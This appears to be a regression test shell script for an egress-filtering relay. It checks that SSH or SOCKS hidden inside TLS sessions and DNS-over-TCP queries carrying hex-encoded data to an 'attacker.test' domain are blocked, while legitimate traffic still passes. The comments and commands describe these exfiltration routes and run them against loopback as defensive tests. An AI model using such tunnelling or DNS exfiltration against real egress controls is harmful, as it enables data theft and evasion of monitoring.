#!/bin/sh
# 402-relay-protocols: protocols inside allowed connections that nobody
# read (branch redteam-egress3).
# 1. SSH and SOCKS inside the TLS sessions the relay reads, against the
# loopback TLS recorder tls_rec.py.
# The leak: the SSH gate (relay_ssh.c) looked at a plain stream's first
# bytes only, so an SSH session inside TLS to an allowed host:443 (an
# sshd behind stunnel or any TLS front) passed unread on both TLS paths:
# the relay decrypted (key path) or terminated (CA path) the session and
# forwarded the banner and the SSH packets after it, which nobody can
# read. Now the start of a TLS session's egress plaintext, and the start
# of a CONNECT tunnel in it, are gated like a plain stream's start: an
# SSH banner is refused (relay-ssh, "inside TLS"), a SOCKS handshake too
# (relay-socks). Seen failing with rl_tls_gates() off (the banner and the
# packet arrived on both paths, no event). Legitimate: HTTP inside the
# same sessions, a plaintext CONNECT tunnel inside TLS, and a stream that
# only starts like a banner still arrive.
# 2. DNS over TCP to the host's name server from a program without the
# shim: allowed as "system name server; queries are checked one by one",
# but only the shim's hooks checked TCP queries, so a static Go client's
# "<hex>.attacker.test" reached the name server (dnsmasq here), which
# would forward it to the attacker's. Now the relay judges every DNS
# message of a TCP stream to port 53 (rl_dns_gate; seen failing with it
# off: the name reached dnsmasq, no event); an allowed name still
# resolves, shimmed (python3) and static (Go).
. "$(dirname "$0")/lib.sh"
dns_sandbox
. "$top_srcdir/t/tls/lib-tls.sh"
need_relay
make_ca

python3 "$top_srcdir/t/e2e/tls_rec.py" 127.0.0.1 "$T/rec.port" "$T/rec.log" \
	"$T/pki/server.pem" "$T/pki/server.key" &
PIDS="$PIDS $!"
i=0
while [ ! -s "$T/rec.port" ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i + 1)); done
PORT=$(cat "$T/rec.port") LOG=$T/rec.log
touch "$LOG"
PY="python3 $top_srcdir/t/e2e/tls_ssh.py"
J="--no-default-policy --relay --allow 127.0.0.1 --upstream-ca $T/pki/ca.pem --log $T/events.jsonl -q"
MARK=opaque-402-packet
arrived() { grep -q "$1" "$LOG"; }
run() {
	: > "$LOG"
	: > "$T/events.jsonl"
	out=$(timeout 20 "$DLPJAIL" $J -- "$@" 2>&1)
	sleep 0.3
}

# the recorder takes all of it without the jail
: > "$LOG"
out=$($PY ssh "$PORT" "$T/pki/ca.pem" $MARK 2>&1)
sleep 0.3
check "bare: SSH inside TLS reaches the recorder ($out)" sh -c "grep -q SSH-2.0 '$LOG' && grep -q $MARK '$LOG'"

# key path (python3 ssl, hooked)
for m in ssh ssh1 tunnel-ssh; do
	run $PY $m "$PORT" "$T/pki/ca.pem" $MARK
	check "python3 $m (key path): neither banner nor packet arrives ($out)" \
		sh -c "! grep -q 'SSH-2.0' '$LOG' && ! grep -q $MARK '$LOG'"
	check "python3 $m: a relay-ssh event, inside TLS" \
		event_has '"action":"blocked"' '"rule":"relay-ssh"' 'inside TLS' "\"port\":$PORT"
done
check "python3 tunnel-ssh: the event says inside a tunnel" event_has '"rule":"relay-ssh"' 'CONNECT tunnel'
run $PY socks "$PORT" "$T/pki/ca.pem" $MARK
check "python3 socks (key path): the SOCKS request never arrives ($out)" sh -c "! grep -q $MARK '$LOG'"
check "python3 socks: a relay-socks event" event_has '"action":"blocked"' '"rule":"relay-socks"'
run $PY clean "$PORT" "$T/pki/ca.pem" $MARK
check "python3 HTTP inside TLS still arrives ($out)" arrived $MARK
check "...with no refusal" sh -c "! grep -q '\"verdict\":\"deny\"' '$T/events.jsonl'"
run $PY tunnel-clean "$PORT" "$T/pki/ca.pem" $MARK
check "python3 plaintext CONNECT tunnel inside TLS still arrives ($out)" arrived "TUNNEL:tunnel $MARK"

# CA path (static Go: its own TLS, no hook)
if command -v go >/dev/null; then
	(cd "$T" && cp "$top_srcdir/t/e2e/tls_ssh_go.go" . &&
	 CGO_ENABLED=0 GO111MODULE=off timeout 120 go build -o gossh tls_ssh_go.go) ||
		{ echo "cannot build tls_ssh_go.go"; exit 99; }
	for m in ssh tunnel-ssh; do
		run "$T/gossh" $m "$PORT" $MARK
		check "Go $m (CA path): neither banner nor packet arrives ($out)" \
			sh -c "! grep -q 'SSH-2.0' '$LOG' && ! grep -q $MARK '$LOG'"
		check "Go $m: a relay-ssh event, inside TLS" \
			event_has '"action":"blocked"' '"rule":"relay-ssh"' 'inside TLS' "\"port\":$PORT"
	done
	run "$T/gossh" clean "$PORT" $MARK
	check "Go HTTP inside TLS (CA path) still arrives ($out)" arrived $MARK
	# the user's own `ssh HOST` names the verified name: passed, unread, evented
	printf 'allow 127.0.0.1\nssh localhost\n' > "$T/user.policy"
	: > "$LOG"
	: > "$T/events.jsonl"
	out=$(timeout 20 "$DLPJAIL" --relay -p "$T/user.policy" --upstream-ca "$T/pki/ca.pem" \
		--log "$T/events.jsonl" -q -- "$T/gossh" ssh "$PORT" $MARK 2>&1)
	sleep 0.3
	check "Go ssh with 'ssh localhost' in the user's policy arrives ($out)" arrived $MARK
	check "...with an allow event" event_has '"verdict":"allow"' 'relay-ssh' 'inside TLS, passed unread'
	# 2. DNS over TCP to the host's name server (dnsmasq on 127.0.0.53)
	(cd "$T" && cp "$top_srcdir/t/e2e/dns_tcp_go.go" . &&
	 CGO_ENABLED=0 GO111MODULE=off timeout 120 go build -o godns dns_tcp_go.go) ||
		{ echo "cannot build dns_tcp_go.go"; exit 99; }
	HEX=414b49415a3751483358354c54
	out=$(timeout 20 "$T/godns" 127.0.0.53 "$HEX.bare.attacker.test" 2>&1)
	sleep 0.3
	check "bare: the TCP query reaches the name server ($out)" grep -q "$HEX.bare" "$DNS_LOG"
	: > "$T/events.jsonl"
	out=$(timeout 20 "$DLPJAIL" --log "$T/events.jsonl" -q -- "$T/godns" 127.0.0.53 \
		"$HEX.jail.attacker.test" 2>&1)
	sleep 0.3
	check "static Go, DNS over TCP to the name server: the name never reaches it ($out)" \
		sh -c "! grep -q '$HEX.jail' '$DNS_LOG'"
	check "...a deny event for the query" event_has '"verdict":"deny"' '"op":"resolve"' 'attacker.test'
	check "...the name shown redacted" sh -c "! grep -q '$HEX' '$T/events.jsonl'"
	out=$(timeout 20 "$DLPJAIL" --allow '*.allowed.test' -q -- "$T/godns" 127.0.0.53 \
		www.allowed.test 2>&1)
	check "static Go: an allowed name over TCP still resolves ($out)" has "$out" 'answer [1-9]'
else
	echo "# no go toolchain: the CA-path half and the static DNS client skipped"
fi
out=$(timeout 20 "$DLPJAIL" --allow '*.allowed.test' -q -- python3 -c '
import socket, struct
q = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\x03www\x07allowed\x04test\x00\x00\x01\x00\x01"
s = socket.create_connection(("127.0.0.53", 53), timeout=5)
s.sendall(struct.pack("!H", len(q)) + q)
print("answer", len(s.recv(512)))' 2>&1)
check "python3: an allowed name over TCP still resolves ($out)" has "$out" 'answer [1-9]'
finish
